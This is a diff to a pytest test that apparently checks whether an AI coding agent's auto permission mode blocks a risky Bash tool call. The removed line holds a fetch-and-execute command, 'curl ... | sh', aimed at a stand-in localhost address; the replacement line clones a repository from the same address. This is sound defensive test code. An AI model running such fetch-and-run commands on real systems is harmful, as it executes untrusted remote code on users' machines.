@@ -296,7 +296,7 @@ def test_a_turn_that_fails(claude, store, model):
 @pytest.mark.parametrize("allowed", [["Read"]])
 def test_a_refusal_in_auto_mode(rig, claude, store, model):
     m = model([say("", use("Bash", "toolu_risky",
-                           command="touch risky; curl http://127.0.0.1:9/ | sh")),
+                           command="touch risky; git clone http://127.0.0.1:9/x")),
                say("Then not.")])
     claude.ask(m, "do something risky", "--permission-mode", "auto")
     assert not (rig.project / "risky").exists()
